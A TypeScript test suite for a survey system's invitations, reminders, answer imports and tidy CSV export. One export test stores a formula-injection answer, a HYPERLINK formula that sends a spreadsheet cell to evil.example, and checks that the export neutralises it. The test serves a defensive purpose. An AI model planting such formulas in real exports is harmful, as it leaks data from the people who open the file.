// Surveys on every test database: invitations (idempotent, tokens), reminders, paper imports
// good and bad, and the tidy export without contact data.
import { readdir, readFile, writeFile } from "node:fs/promises"
import { join } from "node:path"
import { simpleParser } from "mailparser"
import { beforeEach, describe, expect, it } from "vitest"
import type { InputError, Refused } from "../../src/domain/Errors.js"
import { questionsFor, type Instrument } from "../../src/domain/Instrument.js"
import { exportSurveyCsv, importSurveyAnswers, inviteToSurvey, remindSurvey, surveyToken, surveyTokenKey, tokenHash } from "../../src/surveys/Surveys.js"
import type { Workspace } from "../../src/infra/Workspace.js"
import { importRegistryFile } from "../../src/registries/Registries.js"
import { rawAnswer } from "../support/answers.js"
import { failWith, type OpenTestDatabase, runWith, testDatabases } from "../support/databases.js"
import { startSmtp } from "../support/smtp.js"
import { inviteAll, outboxOf, useSurveyWorkspace } from "../support/survey-workspace.js"

const inPre = new Date("2027-05-01T10:00:00Z")

describe.each(testDatabases)("surveys on $name", (testDb) => {
  const suite = useSurveyWorkspace(testDb)
  let shape: OpenTestDatabase
  let ws: Workspace
  let instrument: Instrument
  beforeEach(() => void ({ shape, ws, instrument } = suite()))
  const outbox = () => outboxOf(ws)
  const writeIn = async (name: string, text: string): Promise<string> => {
    const path = join(ws.dir, name)
    await writeFile(path, text)
    return path
  }
  const invite = (wave = "pre") => inviteAll(shape, ws, wave)

  it("invites each participant with an address once, in their locale, with an unguessable link", async () => {
    const first = await invite()
    expect(first).toMatchObject({ participants: 6, withoutEmail: 2, sent: 6, alreadyInvited: 0 })
    const again = await invite()
    expect(again).toMatchObject({ participants: 6, sent: 0, alreadySent: 6, alreadyInvited: 6 })
    const files = await readdir(outbox())
    expect(files.filter((f) => f.endsWith(".eml"))).toHaveLength(6)
    const mails = await Promise.all(files.map(async (f) => simpleParser(await readFile(join(outbox(), f)))))
    const links = mails.map((m) => /https:\/\/survey\.example\.org\/s\/([A-Za-z0-9_-]+)/.exec(m.text ?? "")![1]!)
    expect(new Set(links).size).toBe(6)
    for (const token of links) expect(Buffer.from(token, "base64url").length * 8).toBeGreaterThanOrEqual(128)
    const cairo = mails.find((m) => (m.to as { text: string }).text.includes("eg1@"))!
    expect(cairo.subject).toMatch(/[\u0600-\u06FF]/)
    expect(cairo.html).toContain('dir="rtl"')
    // only hashes are stored, never the tokens
    const stored = await shape.db.selectFrom("survey_invitations").select(["token_hash"]).execute()
    expect(stored.map((s) => s.token_hash).sort()).toEqual(links.map(tokenHash).sort())
    const dump = JSON.stringify(await shape.db.selectFrom("survey_invitations").selectAll().execute())
    for (const token of links) expect(dump).not.toContain(token)
    // nor in the send log once the invitations went out: their bodies are not kept (issue 13)
    const log = await shape.db.selectFrom("send_log").selectAll().execute()
    expect(log.map((r) => [r.status, r.message.purged])).toEqual(Array.from({ length: 6 }, () => ["sent", true]))
    const logDump = JSON.stringify(log)
    for (const token of links) expect(logDump).not.toContain(token)
    // a wave unknown to convene.yaml, and an unknown site, are refused
    const bad = await failWith(shape, inviteToSurvey(ws, { wave: "during", baseUrl: "https://survey.example.org", transport: { outboxDir: outbox() } })) as InputError
    expect(bad.message).toContain('No wave "during"')
  })

  it("reminds only those who have not answered, once a day", async () => {
    await invite()
    const key = await runWith(shape, surveyTokenKey())
    expect(surveyToken(key, "evaluation", "pre", "p-gb-1")).toMatch(/^[A-Za-z0-9_-]{32}$/)
    await shape.db.insertInto("survey_responses").values({ participant_id: "p-gb-1", instrument: "evaluation", instrument_version: 1, wave: "pre", source: "web", answers: "{}" }).execute()
    const remind = () => runWith(shape, remindSurvey(ws, { wave: "pre", baseUrl: "https://survey.example.org", transport: { outboxDir: outbox() }, today: "2027-05-02" }))
    const first = await remind()
    expect(first).toMatchObject({ participants: 5, sent: 5 })
    expect((await remind())).toMatchObject({ sent: 0, alreadySent: 5 })
    const next = await runWith(shape, remindSurvey(ws, { wave: "pre", baseUrl: "https://survey.example.org", transport: { outboxDir: outbox() }, today: "2027-05-05" }))
    expect(next).toMatchObject({ sent: 5 })
  })

  it("resends corrected links after a wrong base URL, to those who have not answered, once (issue 13)", async () => {
    const wrong = await runWith(shape, inviteToSurvey(ws, { wave: "pre", baseUrl: "http://localhost:8080", transport: { outboxDir: outbox() } }))
    expect(wrong).toMatchObject({ participants: 6, sent: 6 })
    await shape.db.insertInto("survey_responses").values({ participant_id: "p-gb-1", instrument: "evaluation", instrument_version: 1, wave: "pre", source: "web", answers: "{}" }).execute()
    // a plain invite again sends nothing: every participant was invited
    expect(await runWith(shape, inviteToSurvey(ws, { wave: "pre", baseUrl: "https://survey.example.org", transport: { outboxDir: outbox() } }))).toMatchObject({ sent: 0, alreadySent: 6 })
    const resend = () => runWith(shape, inviteToSurvey(ws, { wave: "pre", baseUrl: "https://survey.example.org", transport: { outboxDir: outbox() }, resendLinks: true }))
    const first = await resend()
    expect(first).toMatchObject({ participants: 5, sent: 5, resentLinks: true })
    const key = await runWith(shape, surveyTokenKey())
    const files = await readdir(outbox())
    const corrected = files.filter((f) => f.includes("link-"))
    expect(corrected).toHaveLength(5)
    const mail = await readFile(join(outbox(), corrected.find((f) => f.includes("p-gb-2"))!), "utf8")
    expect(mail.replace(/=\r?\n/g, "")).toContain(`https://survey.example.org/s/${surveyToken(key, "evaluation", "pre", "p-gb-2")}`)
    expect(await resend()).toMatchObject({ sent: 0, alreadySent: 5 })
  })

  it("refuses links to this machine over SMTP (exit 4) unless a rehearsal is confirmed; the outbox takes them", async () => {
    const smtp = await startSmtp()
    try {
      const transport = { smtpUrl: smtp.url, from: "Assembly <hello@example.org>" }
      const refused = await failWith(shape, inviteToSurvey(ws, { wave: "pre", baseUrl: "http://localhost:8080", transport })) as Refused
      expect(refused._tag).toBe("Refused")
      expect(refused.exitCode).toBe(4)
      expect(refused.message).toContain("--allow-localhost")
      expect(await failWith(shape, remindSurvey(ws, { wave: "pre", baseUrl: "http://127.0.0.1:8080", transport }))).toMatchObject({ _tag: "Refused" })
      // nothing stored, nothing sent
      expect(await shape.db.selectFrom("survey_invitations").selectAll().execute()).toEqual([])
      expect(await shape.db.selectFrom("send_log").selectAll().execute()).toEqual([])
      expect(smtp.received).toHaveLength(0)
      // not an http(s) address at all: bad input
      expect(await failWith(shape, inviteToSurvey(ws, { wave: "pre", baseUrl: "survey.example.org", transport }))).toMatchObject({ _tag: "InputError" })
      // a confirmed rehearsal goes out
      expect(await runWith(shape, inviteToSurvey(ws, { wave: "pre", baseUrl: "http://localhost:8080", transport, allowLocalhost: true }))).toMatchObject({ sent: 6 })
      expect(smtp.received).toHaveLength(6)
    } finally {
      await smtp.close()
    }
  })

  const paperCsv = (codes: ReadonlyArray<string>, wave: "pre" | "post" = "pre") => {
    const questions = questionsFor(instrument, wave)
    const quote = (s: string) => (/[",\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s)
    return `code,${questions.map((q) => q.id).join(",")}\n${codes.map((c, i) => `${c},${questions.map((q) => quote(rawAnswer(q, i))).join(",")}`).join("\n")}\n`
  }

  it("imports paper answers, all or nothing, and exports them tidy without contact data", async () => {
    const file = join(ws.dir, "paper-pre.csv")
    await writeFile(file, paperCsv(["SNBBBB33", "inbbbb33", "GBAAAA22"]))
    // a dry run runs every check and counts, and stores nothing
    const rehearsed = await runWith(shape, importSurveyAnswers(ws, file, { wave: "pre", dryRun: true }))
    expect(rehearsed).toMatchObject({ rows: 3, imported: 3, blank: 0, dryRun: true, sample: ["SNBBBB33", "INBBBB33", "GBAAAA22"] })
    expect(await shape.db.selectFrom("survey_responses").select("participant_id").execute()).toEqual([])
    const summary = await runWith(shape, importSurveyAnswers(ws, file, { wave: "pre" }))
    expect(summary).toMatchObject({ rows: 3, imported: 3, blank: 0 })
    expect(summary).not.toHaveProperty("dryRun")
    expect(summary.answers).toBe(rehearsed.answers)
    expect(summary.answers).toBe(3 * questionsFor(instrument, "pre").length)
    const row = await shape.db.selectFrom("survey_responses").select(["answers", "source"]).where("participant_id", "=", "p-in-2").executeTakeFirstOrThrow()
    expect(row.source).toBe("paper")
    const answers = (typeof row.answers === "string" ? JSON.parse(row.answers) : row.answers) as Record<string, unknown>
    const scale = questionsFor(instrument, "pre").find((q) => q.type === "scale")!
    expect(answers[scale.id]).toBe(1)
    // again: every row is a duplicate of an existing answer
    const dup = await failWith(shape, importSurveyAnswers(ws, file, { wave: "pre" })) as InputError
    expect(dup.problems).toHaveLength(3)
    expect(dup.problems[0]!.message).toContain("already answered the pre wave (paper")
    expect(((await failWith(shape, importSurveyAnswers(ws, file, { wave: "pre", dryRun: true }))) as InputError).problems).toHaveLength(3)
    expect((await runWith(shape, importSurveyAnswers(ws, file, { wave: "pre", skipExisting: true }))).skippedExisting).toBe(3)
    const out = join(ws.dir, "out", "answers.csv")
    const exported = await runWith(shape, exportSurveyCsv(ws, out))
    const text = await readFile(out, "utf8")
    expect(text.split("\n")[0]).toBe("participant_code,site,country,country_name,site_format,gender,age_band,education,residence,role,attended,wave,instrument,instrument_version,source,simulated,question,value")
    expect(exported.rows).toBe(summary.answers)
    // the site's format and the participant's features (any, empty when not recorded), no attendance recorded
    expect(text).toMatch(new RegExp(`INBBBB33,in-delhi,IN,India,online,[^,]*,[^,]*,[^,]*,[^,]*,panel,,pre,evaluation,1,paper,no,${scale.id},1`))
    const dictionary = await readFile(exported.dictionary, "utf8")
    expect(dictionary).toContain(`question,${scale.id},`)
    expect(dictionary).toContain("gender,woman,Woman")
    expect(text).not.toMatch(/@example\.org/)
  })

  it("names each country in English next to its code, so that Namibia's NA stays a country where read as missing (issue 12)", async () => {
    const site = await shape.db.selectFrom("sites").selectAll().where("id", "=", "in-delhi").executeTakeFirstOrThrow()
    await shape.db.insertInto("sites").values({ ...site, id: "na-windhoek", name: "Windhoek", city: "Windhoek", country: "NA", timezone: "Africa/Windhoek" }).execute()
    await shape.db.insertInto("participants").values({ id: "p-na-1", site_id: "na-windhoek", code: "NAAAAA11", locale: null, email: null, gender: null, age_band: null, education: null, residence: null }).execute()
    const scale = questionsFor(instrument, "pre").find((q) => q.type === "scale")!
    await shape.db.insertInto("survey_responses").values({ participant_id: "p-na-1", instrument: "evaluation", instrument_version: 1, wave: "pre", source: "web", answers: JSON.stringify({ [scale.id]: 3 }) }).execute()
    const out = join(ws.dir, "out", "answers-na.csv")
    await runWith(shape, exportSurveyCsv(ws, out))
    const csv = await readFile(out, "utf8")
    expect(csv).toContain(`NAAAAA11,na-windhoek,NA,Namibia,online,,,,,panel,,pre,evaluation,1,web,no,${scale.id},3\n`)
  })

  it("exports a free-text answer that looks like a formula neutralised, and a negative number as a number (issue 13)", async () => {
    const text = instrument.questions.find((q) => q.type === "text")!
    const number = instrument.questions.find((q) => q.type === "number" || q.type === "scale")!
    const answers = { [text.id]: '=HYPERLINK("http://evil.example/?"&A1,"click me")', [number.id]: -2 }
    await shape.db.insertInto("survey_responses").values({ participant_id: "p-gb-1", instrument: "evaluation", instrument_version: 1, wave: "pre", source: "web", answers: JSON.stringify(answers) }).execute()
    const out = join(ws.dir, "out", "answers-hostile.csv")
    await runWith(shape, exportSurveyCsv(ws, out))
    const csv = await readFile(out, "utf8")
    expect(csv).toContain(`,${text.id},"'=HYPERLINK(""http://evil.example/?""&A1,""click me"")"\n`)
    expect(csv).toContain(`,${number.id},-2\n`)
  })

  it("matches a code registered in lower case with paper and Kobo rows in any case (issue 13)", async () => {
    await runWith(shape, importRegistryFile("participants", await writeIn("lower.csv", "id,site_id,code\np-lower-1,gb-london,abcd-lower-1\np-lower-2,gb-london, Abcd-Lower-2 \n")))
    const stored = await shape.db.selectFrom("participants").select(["id", "code"]).where("id", "like", "p-lower-%").orderBy("id").execute()
    expect(stored).toEqual([{ id: "p-lower-1", code: "ABCD-LOWER-1" }, { id: "p-lower-2", code: "ABCD-LOWER-2" }])
    const paper = await runWith(shape, importSurveyAnswers(ws, await writeIn("paper-lower.csv", paperCsv(["abcd-lower-1"])), { wave: "pre" }))
    expect(paper).toMatchObject({ rows: 1, imported: 1 })
    const scale = questionsFor(instrument, "pre").find((q) => q.type === "scale")!
    const kobo = await runWith(shape, importSurveyAnswers(ws, await writeIn("kobo-lower.csv", `participant_code,${scale.id}\n aBcD-lOwEr-2 ,${rawAnswer(scale, 0)}\n`), { wave: "pre", format: "kobo" }))
    expect(kobo).toMatchObject({ rows: 1, imported: 1 })
    const answered = await shape.db.selectFrom("survey_responses").select("participant_id").where("participant_id", "like", "p-lower-%").orderBy("participant_id").execute()
    expect(answered.map((r) => r.participant_id)).toEqual(["p-lower-1", "p-lower-2"])
  })

  it("reports every bad cell as FILE:LINE:COLUMN and writes nothing", async () => {
    const questions = questionsFor(instrument, "pre")
    const scaleAt = questions.findIndex((q) => q.type === "scale") + 2
    const singleAt = questions.findIndex((q) => q.type === "single") + 2
    const good = paperCsv(["SNBBBB33", "GBAAAA22", "EGAAAA22"]).trim().split("\n")
    const cells = good[2]!.split(",")
    cells[scaleAt - 1] = "11"
    cells[singleAt - 1] = "sometimes"
    good[2] = cells.join(",")
    good[3] = good[3]!.replace("EGAAAA22", "NOSUCH99")
    good.push(good[1]!)
    const file = join(ws.dir, "bad.csv")
    await writeFile(file, `${good.join("\n")}\n`)
    const error = await failWith(shape, importSurveyAnswers(ws, file, { wave: "pre" })) as InputError
    const lines = error.problems.map((p) => `${p.line}:${p.column}: ${p.field}: ${p.message}`)
    expect(lines).toContainEqual(expect.stringMatching(new RegExp(`^3:${scaleAt}: ${questions[scaleAt - 2]!.id}: expected a whole number from 0 to 10, got "11"`)))
    expect(lines).toContainEqual(expect.stringMatching(new RegExp(`^3:${singleAt}: ${questions[singleAt - 2]!.id}: expected one of .*got "sometimes"`)))
    expect(lines).toContainEqual(expect.stringMatching(/^4:1: code: no participant has the code "NOSUCH99"/))
    expect(lines).toContainEqual(expect.stringMatching(/^5:1: code: the code SNBBBB33 is already on line 2/))
    expect(error.message).toContain("bad.csv: nothing was imported")
    expect(await shape.db.selectFrom("survey_responses").selectAll().execute()).toEqual([])
    // a header naming an unknown question, or one the wave does not ask
    const post = questionsFor(instrument, "post").find((q) => !q.waves.includes("pre"))!
    await writeFile(file, `code,no-such-question,${post.id}\nSNBBBB33,1,1\n`)
    const header = await failWith(shape, importSurveyAnswers(ws, file, { wave: "pre" })) as InputError
    expect(header.problems.map((p) => `${p.line}:${p.column}: ${p.message}`)).toEqual([
      '1:2: unknown column "no-such-question": expected code or a question id of evaluation',
      `1:3: the question "${post.id}" is not asked in the pre wave (it is in ${post.waves.join(", ")})`
    ])
  })
})
